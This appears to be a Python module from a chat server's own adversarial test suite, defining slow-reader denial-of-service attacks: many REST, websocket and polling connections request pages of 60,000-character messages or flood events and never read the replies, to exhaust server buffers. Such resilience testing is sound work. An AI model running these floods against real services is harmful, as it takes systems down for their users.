"""Answers that are asked for and never read."""

import asyncio
from functools import partial
from typing import Any

import aiohttp

from scripts.hostility.attack import ATTACKERS, Attack, Outcome, Target, bearer, http
from scripts.hostility.attacks.frames import open_polling
from scripts.hostility.attacks.http import POLL, request
from scripts.hostility.wire import connected, crowd, event, text_frame, websocket

LONG = 60_000  # characters of a message's metadata; what is allowed is 64 KiB
MESSAGES = 100  # of a page
ASKED = 20  # pages on each connection
FOREVER = 3600.0
LIMITED = 1.0  # seconds


async def long_messages(target: Target) -> None:
    """A page of long messages in the attacker's own room."""
    path = f"/chat/rooms/{target.attacker.room}/messages"
    message = {"content": "long", "metadata": {"x": "y" * LONG}}
    async with http(target.url, ATTACKERS[0], **bearer(target.attacker)) as session:
        for _ in range(MESSAGES):
            while not await written(session, path, message):  # noqa: ASYNC110 - its bucket is in Redis
                await asyncio.sleep(LIMITED)


async def written(session: aiohttp.ClientSession, path: str, message: object) -> bool:
    """Write a message, unless that is too much just now. Raises ClientResponseError for another refusal."""
    async with session.post(path, json=message) as answer:
        if answer.status == 429:
            return False
        answer.raise_for_status()
        return True


def page(target: Target) -> dict[str, Any]:
    """The payload that asks for it."""
    return {"roomId": target.attacker.room, "limit": MESSAGES}


async def over_rest(number: int, target: Target, outcome: Outcome, _: Any) -> None:
    """Pages asked for over REST, on some connections."""
    fields = f"authorization: Bearer {target.attacker.token}\r\n".encode()
    asked = request("GET", f"/chat/rooms/{target.attacker.room}/messages?limit={MESSAGES}", fields)

    async def act() -> None:
        async with connected(target, outcome) as connection:
            connection.stop_reading()
            await connection.send(asked)
            await asyncio.sleep(FOREVER)

    await crowd(number, outcome, act)


async def over_websocket(target: Target, outcome: Outcome, _: Any) -> None:
    """Pages asked for over websockets."""

    async def act() -> None:
        async with websocket(target, outcome, target.attacker.token, listens=False) as session:
            session.connection.stop_reading()
            for number in range(ASKED):
                await session.send(event("message:history", page(target), number))
            await asyncio.sleep(FOREVER)

    await crowd(20, outcome, act)


async def over_polling(target: Target, outcome: Outcome, _: Any) -> None:
    """Pages asked for over polling, without a GET for what comes of it."""
    token = target.attacker.token

    async def act() -> None:
        async with connected(target, outcome) as connection:
            path = f"{POLL}&sid={await open_polling(connection)}"
            connection.listen()
            await connection.send(request("POST", path, body=f'40{{"token":"{token}"}}'.encode()))
            await connection.send(request("POST", path, body=b'42["authenticate"]'))
            for number in range(ASKED):
                body = event("message:history", page(target), number)
                await connection.send(request("POST", path, body=body))
            await asyncio.sleep(FOREVER)

    await crowd(20, outcome, act)


async def pings(target: Target, outcome: Outcome, _: Any) -> None:
    """Events whose acknowledgements nobody reads."""
    frame = text_frame(event("room:list", {}, 7)) * 50

    async def act() -> None:
        async with websocket(target, outcome, listens=False) as session:
            session.connection.stop_reading()
            while True:
                await session.connection.send(frame)

    await crowd(20, outcome, act)


ATTACKS = [
    Attack(
        f"unread-rest-{number}",
        f"{number} connections that ask for a page of long messages over REST and do not read",
        partial(over_rest, number),
        account=True,
        prepare=long_messages,
    )
    for number in (20, 200)
] + [
    Attack(
        "unread-websocket",
        "20 websockets that ask for 20 such pages each and do not read",
        over_websocket,
        account=True,
        prepare=long_messages,
    ),
    Attack(
        "unread-polling",
        "20 polling sessions that do the same",
        over_polling,
        account=True,
        prepare=long_messages,
    ),
    Attack("unread-refusals", "20 websockets that do not read how their events are refused", pings),
]
